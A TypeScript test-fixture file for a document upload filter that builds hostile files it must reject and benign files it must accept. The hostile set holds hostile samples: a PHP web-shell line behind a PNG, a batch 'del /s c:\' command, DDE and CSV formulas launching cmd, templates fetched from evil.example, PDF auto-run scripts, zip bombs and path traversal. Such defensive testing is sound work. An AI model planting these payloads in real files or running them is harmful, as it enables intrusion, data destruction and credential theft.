// Files that must not get in, each with the finding it must be refused with, and files that must. Small, made here, and harmless: what
// looks like a program is only its first bytes.
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { type Zippable, zipSync } from 'fflate';

const { CFB } = createRequire(import.meta.url)('@e965/xlsx') as {
  CFB: {
    utils: { cfb_new(): object; cfb_add(file: object, name: string, content: Uint8Array): void };
    write(file: object, options: { type: 'buffer' }): Buffer;
  };
};

interface Upload {
  readonly name: string;
  readonly bytes: Uint8Array;
}
interface HostileUpload extends Upload {
  readonly why: string;
  /** Of the finding in the refusal. */
  readonly code: string;
}

const text = (content: string): Uint8Array => Buffer.from(content);
const bytes = (hex: string, rest = ''): Uint8Array => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.from(rest, 'latin1')]);

const officeTypes = {
  docx: 'wordprocessingml.document.main+xml',
  xlsx: 'spreadsheetml.sheet.main+xml',
  pptx: 'presentationml.presentation.main+xml',
} as const;
const mainParts = { docx: 'word/document.xml', xlsx: 'xl/workbook.xml', pptx: 'ppt/presentation.xml' } as const;
const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** Paragraphs as the body of a docx. */
const wordXml = (body: string): string => `<?xml version="1.0" encoding="UTF-8"?><w:document ${word}><w:body>${body}</w:body></w:document>`;
const paragraph = (content: string): string => `<w:p><w:r><w:t>${content}</w:t></w:r></w:p>`;

/** A small office file, with further parts. */
function office(kind: keyof typeof officeTypes, more: Readonly<Record<string, string | Uint8Array>> = {}, types = ''): Uint8Array {
  const override = `<Override PartName="/${mainParts[kind]}" ContentType="application/vnd.openxmlformats-officedocument.${officeTypes[kind]}"/>`;
  const parts: Record<string, string | Uint8Array> = {
    '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${types}${override}</Types>`,
    '_rels/.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relations}/officeDocument" Target="${mainParts[kind]}"/></Relationships>`,
    [mainParts[kind]]: kind === 'docx' ? wordXml(paragraph('关于报送情况的通报') + paragraph('各旗县区政府：')) : '<workbook/>',
    ...more,
  };
  const files: Zippable = Object.fromEntries(
    Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? text(part) : part]),
  );
  return zipSync(files);
}
const related = (type: string, target: string): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relations}/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

/** A compound file of these streams. */
function compound(streams: Readonly<Record<string, Uint8Array>>): Uint8Array {
  const file = CFB.utils.cfb_new();
  for (const [name, content] of Object.entries(streams)) CFB.utils.cfb_add(file, name, content);
  return CFB.write(file, { type: 'buffer' });
}
/** The head of a Word stream ([MS-DOC] FibBase); flag 0x0100 says that it is locked. */
function wordStream(flags = 0): Uint8Array {
  const stream = Buffer.alloc(4608);
  stream.writeUInt16LE(0xa5ec, 0);
  stream.writeUInt16LE(flags, 10);
  return stream;
}
/** The head of a workbook ([MS-XLS]): BOF, then records. */
function workbookStream(...records: readonly (readonly [type: number, content: Uint8Array])[]): Uint8Array {
  const all = [[0x0809, Buffer.alloc(16)] as const, ...records, [0x000a, Buffer.alloc(0)] as const].map(([type, content]) => {
    const head = Buffer.alloc(4);
    head.writeUInt16LE(type, 0);
    head.writeUInt16LE(content.length, 2);
    return Buffer.concat([head, content]);
  });
  return Buffer.concat([...all, Buffer.alloc(4608)]);
}
const sheet = (kind: number): readonly [number, Uint8Array] => [0x0085, Buffer.from([0, 0, 0, 0, 0, kind, 1, 0, 65])];

/** A PDF with these objects (from 3 on) beside catalogue and page. */
function pdf(objects: readonly (string | Uint8Array)[] = [], catalogue = '', trailer = ''): Uint8Array {
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
    ...objects,
  ];
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let at = 9;
  all.forEach((object, i) => {
    const piece = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(object as string), Buffer.from('\nendobj\n')]);
    offsets.push(at);
    at += piece.length;
    pieces.push(piece);
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const end = `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${all.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([...pieces, Buffer.from(end)]);
}
const pdfStream = (dictionary: string, content: Uint8Array): Uint8Array =>
  Buffer.concat([text(`<< ${dictionary} /Length ${content.length} >>\nstream\n`), content, text('\nendstream')]);

const crcTable = Int32Array.from({ length: 256 }, (_, n) =>
  Array.from({ length: 8 }).reduce<number>((c) => (c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1), n),
);
const crc = (content: Uint8Array): number =>
  (content.reduce((c, byte) => (crcTable[(c ^ byte) & 255] as number) ^ (c >>> 8), -1) ^ -1) >>> 0;
function chunk(type: string, content: Uint8Array): Uint8Array {
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  const named = Buffer.concat([Buffer.from(type), content]);
  check.writeUInt32BE(crc(named));
  return Buffer.concat([length, named, check]);
}
/** A grey PNG; the rows are those of a 1 × 1 picture, whatever size it claims. */
function png(width = 1, height = 1): Uint8Array {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 8;
  return Buffer.concat([
    bytes('89504e470d0a1a0a'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(2))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
const gif = bytes('47494638396101000100800000000000ffffff2c00000000010001000002024401003b');
/** A baseline JPEG's headers for 1 × 1, enough for every reader of sizes. */
const jpeg = (comment = '', behind = ''): Uint8Array =>
  Buffer.concat([
    bytes('ffd8ffe000104a46494600010100000100010000'),
    ...(comment === '' ? [] : [bytes(`fffe${(comment.length + 2).toString(16).padStart(4, '0')}`, comment)]),
    bytes('ffc0000b080001000101011100ffda0008010100003f00d2cf20ffd9', behind),
  ]);
const webp = bytes('524946461a000000574542505650384c0d0000002f00000010071011118888fe0700');

/** The first bytes at `at` of every signature in a zip's directory or local heads, changed. */
function patched(zip: Uint8Array, signature: number, at: number, value: number, size: 2 | 4 = 4): Uint8Array {
  const copy = Buffer.from(zip);
  for (let i = 0; i + 46 < copy.length; i += 1) {
    if (copy.readUInt32LE(i) !== signature) continue;
    if (size === 4) copy.writeUInt32LE(value, i + at);
    else copy.writeUInt16LE(value, i + at);
  }
  return copy;
}
const DIRECTORY = 0x02014b50;

/** Two names of the same length, made the same after packing. */
function doubled(): Uint8Array {
  const zip = Buffer.from(office('docx', { 'word/docu2ent.xml': wordXml(paragraph('另一份正文')) }));
  for (let at = zip.indexOf('word/docu2ent.xml'); at >= 0; at = zip.indexOf('word/docu2ent.xml')) zip.write('word/document.xml', at);
  return zip;
}

const exe = bytes('4d5a90000300000004000000ffff0000', `${'\0'.repeat(64)}This program cannot be run in DOS mode.`);
const vba = compound({ '/VBA/_VBA_PROJECT': bytes('cc61'), '/VBA/dir': bytes('01'), '/PROJECT': text('ID="{1}"') });
const zeros = (megabytes: number): Uint8Array => zipSync({ '[Content_Types].xml': Buffer.alloc(megabytes * 1024 * 1024) });
const script = (object: string): string => `<< /S /${object} /JS (app.alert(1)) >>`;

/** At least thirty ways in that must stay shut; `code` is the finding's. */
export function hostileUploads(): readonly HostileUpload[] {
  const list: readonly (readonly [code: string, name: string, content: Uint8Array, why: string])[] = [
    ['empty', '空.docx', Buffer.alloc(0), 'nothing in it'],
    ['too-large', '太大.txt', Buffer.alloc(5 * 1024 * 1024 + 1, '通'), 'beyond the size of its kind'],
    ['extension', '现场照片.jpg', text('<!DOCTYPE html><html><script>alert(1)</script></html>'), 'a page posing as a photograph'],
    [
      'extension',
      '图标.png',
      text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      'an SVG script posing as an image',
    ],
    ['extension', '图标二.png', text('<?xml version="1.0"?>\n<!-- a -->\n<svg onload="alert(1)"/>'), 'an SVG after a prologue'],
    ['not-allowed', '图形.svg', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'an SVG under its own name'],
    ['not-allowed', '网页.html', text('<html><body>x</body></html>'), 'a page under its own name'],
    ['extension', '说明.txt', text('\ufeff<!doctype html><script>alert(1)</script>'), 'a page posing as text'],
    ['extension', '通报.docx', exe, 'a program posing as a document'],
    ['not-allowed', '通报.docx.exe', exe, 'a program with two endings'],
    ['extension', '文件.pdf', bytes('7f454c460201010000', 'x'), 'a Linux program posing as a PDF'],
    ['extension', '资料.pdf', bytes('4c0000000114020000000000c000000000000046', 'x'), 'a shortcut posing as a PDF'],
    ['extension', '脚本.txt', text('@echo off\r\ndel /s c:\\\r\n'), 'a batch file posing as text'],
    ['extension', '照片.png', gif, 'an image of another kind'],
    ['extension', '表格.xlsx', office('docx'), 'a document posing as a workbook'],
    ['not-allowed', '材料.zip', zipSync({ 'a.txt': text('a') }), 'an archive'],
    ['extension', '材料.docx', zipSync({ 'a.txt': text('a') }), 'an archive posing as a document'],
    ['not-allowed', '材料.rar', bytes('526172211a0700cf', 'x'), 'an archive of another kind'],
    ['polyglot', '头像.gif', bytes('4749463839612f2a0100', `${'\0'.repeat(40)}*/=1;alert(1)//\0;`), 'a GIF that is a script'],
    ['polyglot', '头像二.gif', Buffer.concat([gif, text('<script>alert(1)</script>')]), 'a GIF with a script behind it'],
    ['polyglot', '合影.jpg', jpeg('<html><script>alert(1)</script>'), 'a JPEG with a page in its comment'],
    ['polyglot', '合影二.jpg', jpeg('', Buffer.from(zipSync({ 'a.exe': exe })).toString('latin1')), 'a JPEG with an archive behind it'],
    ['polyglot', '截图.png', Buffer.concat([png(), text('<?php system($_GET[0]); ?>')]), 'a PNG with a program behind it'],
    ['image-size', '大图.png', png(50_000, 50_000), 'an image that unpacks to 2.5 GB'],
    ['damaged', '坏图.png', bytes('89504e470d0a1a0a', 'nothing'), 'only the first bytes of an image'],
    [
      'macro',
      '通知.docm',
      office('docx', {}, '<Default Extension="bin" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
      'a document made for macros',
    ],
    ['macro', '通知.docx', office('docx', { 'word/vbaProject.bin': vba }), 'macros in a document that says it has none'],
    ['macro', '通知二.docx', office('docx', { 'word/media/image9.png': vba }), 'macros under an image’s name'],
    ['macro', '统计.xlsx', office('xlsx', { 'xl/macrosheets/sheet1.xml': '<macrosheet/>' }), 'an Excel 4.0 macro sheet'],
    [
      'macro',
      '旧通知.doc',
      compound({ '/WordDocument': wordStream(), '/Macros/VBA/_VBA_PROJECT': bytes('cc61'), '/Macros/VBA/dir': bytes('01') }),
      'macros in an old document',
    ],
    [
      'macro',
      '旧统计.xls',
      compound({ '/Workbook': workbookStream(sheet(0)), '/_VBA_PROJECT_CUR/VBA/dir': bytes('01') }),
      'macros in an old workbook',
    ],
    ['macro', '旧宏表.xls', compound({ '/Workbook': workbookStream(sheet(1)) }), 'an old macro sheet'],
    [
      'embedded-object',
      '旧附件.doc',
      compound({ '/WordDocument': wordStream(), '/ObjectPool/_1234567890/\u0001Ole10Native': exe }),
      'a program in an old document',
    ],
    ['encrypted', '加密.doc', compound({ '/WordDocument': wordStream(0x0100) }), 'a locked old document'],
    ['encrypted', '加密.xls', compound({ '/Workbook': workbookStream([0x002f, Buffer.alloc(6)], sheet(0)) }), 'a locked old workbook'],
    [
      'encrypted',
      '加密.docx',
      compound({ '/EncryptionInfo': bytes('04000400'), '/EncryptedPackage': Buffer.alloc(5000) }),
      'a locked document',
    ],
    [
      'external-template',
      '模板.docx',
      office('docx', { 'word/_rels/settings.xml.rels': related('attachedTemplate', 'https://evil.example/t.dotm') }),
      'a template fetched on opening',
    ],
    [
      'external-template',
      '模板二.docx',
      office('docx', { 'word/_rels/settings.xml.rels': related('attachedTemplate', '&#92;&#92;evil.example&#92;t.dotm') }),
      'a template on a foreign share',
    ],
    [
      'external-object',
      '外链.docx',
      office('docx', { 'word/_rels/document.xml.rels': related('oleObject', 'mhtml:https://evil.example/x.html!x-usc:x') }),
      'an object fetched on opening',
    ],
    [
      'external-object',
      '外图.docx',
      office('docx', { 'word/_rels/document.xml.rels': related('image', 'file://evil.example/share/x.png') }),
      'an image on a foreign share, which gives away a password hash',
    ],
    [
      'embedded-object',
      '对象.docx',
      office('docx', { 'word/embeddings/oleObject1.bin': compound({ '/\u0001Ole10Native': exe }) }),
      'an object in a document',
    ],
    ['embedded-object', '程序.docx', office('docx', { 'word/media/image1.png': exe }), 'a program under an image’s name'],
    [
      'macro',
      '图表.docx',
      office('docx', { 'word/embeddings/sheet.xlsx': office('xlsx', { 'xl/vbaProject.bin': vba }) }),
      'macros in the workbook behind a chart',
    ],
    [
      'dde',
      '域.docx',
      office('docx', {
        'word/document.xml': wordXml(
          '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
        ),
      }),
      'a field that starts a program, cut in two',
    ],
    [
      'dde',
      '链接.xlsx',
      office('xlsx', {
        'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
      'a link that starts a program',
    ],
    ['formula', '名单.csv', text('姓名,备注\n张三,"=cmd|\'/c calc\'!A1"\n'), 'a formula that starts a program'],
    [
      'xml-entity',
      '实体.docx',
      office('docx', { 'word/document.xml': '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><w:document>&b;</w:document>' }),
      'entities that multiply',
    ],
    ['zip-bomb', '炸弹.docx', patched(office('docx'), DIRECTORY, 24, 0x7fffffff), 'parts that say they are huge'],
    ['zip-bomb', '炸弹二.docx', patched(zeros(8), DIRECTORY, 24, 100), 'a part that is larger than it says'],
    ['zip-bomb', '炸弹三.docx', patched(office('docx'), DIRECTORY, 42, 0), 'parts that share their bytes'],
    ['damaged', '双份.docx', doubled(), 'two parts of one name'],
    ['zip-path', '路径.docx', office('docx', { '../../etc/passwd': 'x' }), 'a part with a path out of the file'],
    ['encrypted', '锁.docx', patched(office('docx'), DIRECTORY, 8, 1, 2), 'parts locked with a password'],
    ['damaged', '残.docx', office('docx').slice(0, -30), 'cut off at the end'],
    ['pdf-script', '表单.pdf', pdf([script('JavaScript')], '/OpenAction 4 0 R'), 'a script that runs on opening'],
    [
      'pdf-script',
      '表单二.pdf',
      pdf([script('J#61vaScript').replace('/JS', '/#4a#53')], '/OpenAction 4 0 R'),
      'a script with its name disguised',
    ],
    [
      'pdf-script',
      '表单三.pdf',
      pdf([pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(text(`5 0 ${script('JavaScript')}`)))]),
      'a script in a packed object',
    ],
    [
      'pdf-hidden',
      '表单四.pdf',
      pdf([pdfStream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', text('789c>'))]),
      'objects packed so that nobody looks',
    ],
    ['pdf-launch', '启动.pdf', pdf(['<< /S /Launch /F (cmd.exe) >>'], '/OpenAction 4 0 R'), 'an action that starts a program'],
    [
      'pdf-attachment',
      '夹带.pdf',
      pdf([pdfStream('/Type /EmbeddedFile', exe)], '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>'),
      'a program inside a PDF',
    ],
    ['encrypted', '加密.pdf', pdf(['<< /Filter /Standard /V 2 /R 3 /P -44 >>'], '', '/Encrypt 4 0 R'), 'a locked PDF'],
    ['damaged', '坏.pdf', text('%PDF-1.7\nnothing'), 'only the first bytes of a PDF'],
    ['name', 'a\0.docx', office('docx'), 'a zero in the name'],
    ['name', '通知\u202excod.exe', office('docx'), 'a name that reads backwards'],
    ['name', 'CON.docx', office('docx'), 'the name of a device'],
    ['name', '..', office('docx'), 'a name that is a folder'],
    ['name', `${'长'.repeat(200)}.docx`, office('docx'), 'a name beyond measure'],
    [
      'secrecy-mark',
      '方案.docx',
      office('docx', {
        'word/document.xml': wordXml('<w:p><w:r><w:t>机</w:t></w:r><w:r><w:t>密★10年</w:t></w:r></w:p>' + paragraph('关于专项行动的方案')),
      }),
      'a document marked secret',
    ],
    [
      'secrecy-mark',
      '页眉.docx',
      office('docx', { 'word/header1.xml': `<w:hdr ${word}>${paragraph('秘　密')}</w:hdr>` }),
      'a mark in the page head',
    ],
    ['secrecy-mark', '机密★1年 名单.xlsx', office('xlsx'), 'a mark in the name'],
    ['secrecy-mark', '记录.txt', text('绝密\n会议记录\n'), 'a text marked secret'],
    [
      'secrecy-mark',
      '旧方案.doc',
      compound({ '/WordDocument': Buffer.concat([wordStream(), Buffer.from('机密★5年', 'utf16le'), Buffer.alloc(500)]) }),
      'an old document marked secret',
    ],
  ];
  return list.map(([code, name, content, why]) => ({ name, bytes: content, why, code }));
}

const seeds = join(import.meta.dirname, '../../../shared/seeds/files');
const seed = (name: string): Upload => ({ name, bytes: readFileSync(join(seeds, name)) });

/** Files that must get in: those of real offices, and small ones of every other kind. */
export function goodUploads(): readonly Upload[] {
  return [
    ...['000-body.doc', '000-table2.docx', '000-table2.xls', '000.pdf', '001-sheets.xlsx', '001-stacked.xlsx', '001.doc', '001.docx'].map(
      seed,
    ),
    ...['001.pdf', '002-gbk.csv', '002.docx', '002.xlsx', '003-fakebold.pdf', '003.docx', '003.pdf', '004-utf16.txt', '004.docx'].map(seed),
    { name: '截图.png', bytes: png() },
    { name: '长图.png', bytes: png(1080, 20_000) },
    { name: '照片.JPG', bytes: jpeg() },
    { name: '动图.gif', bytes: gif },
    { name: '图片.webp', bytes: webp },
    { name: '讲稿.pptx', bytes: office('pptx', { 'ppt/slides/slide1.xml': '<p:sld><a:p><a:r><a:t>政策解读</a:t></a:r></a:p></p:sld>' }) },
    { name: '图表.docx', bytes: office('docx', { 'word/embeddings/sheet.xlsx': office('xlsx') }) },
    { name: '带链接.docx', bytes: office('docx', { 'word/_rels/document.xml.rels': related('hyperlink', 'https://www.gov.cn/') }) },
    {
      name: '套用模板.docx',
      bytes: office('docx', { 'word/_rels/settings.xml.rels': related('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm') }),
    },
    {
      name: '公文.ofd',
      bytes: zipSync({ 'OFD.xml': text('<ofd:OFD/>'), 'Doc_0/Pages/Page_0/Content.xml': text('<ofd:TextCode X="1">通报</ofd:TextCode>') }),
    },
    { name: '访谈实录.txt', bytes: text('主持人：各位网友大家好。a < b\n嘉宾：不得泄露商业秘密。\n') },
    { name: '文档.wps', bytes: compound({ '/WordDocument': wordStream() }) },
    { name: '表格.et', bytes: compound({ '/Workbook': workbookStream(sheet(0)) }) },
    { name: '无后缀', bytes: png() },
    { name: 'C:\\fakepath\\保密法学习.docx', bytes: office('docx') },
  ];
}
